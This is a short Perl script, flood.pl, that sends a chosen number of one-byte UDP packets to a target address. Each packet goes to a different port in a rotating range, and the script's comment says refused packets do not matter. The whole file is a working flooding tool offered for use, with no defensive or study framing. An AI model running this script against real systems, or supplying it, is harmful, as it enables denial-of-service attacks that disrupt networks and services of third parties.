# flood.pl ADDRESS N: sends N packets of UDP to it, each of another connection. What is refused of them does not matter.
use strict;
use Socket;
my ($address, $n) = @ARGV;
my $to = inet_aton($address);
my $s;
for my $i (0 .. $n - 1) {
  if ($i % 30000 == 0) { socket($s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!\n" }
  send($s, 'x', 0, sockaddr_in(10000 + $i % 30000, $to));
}
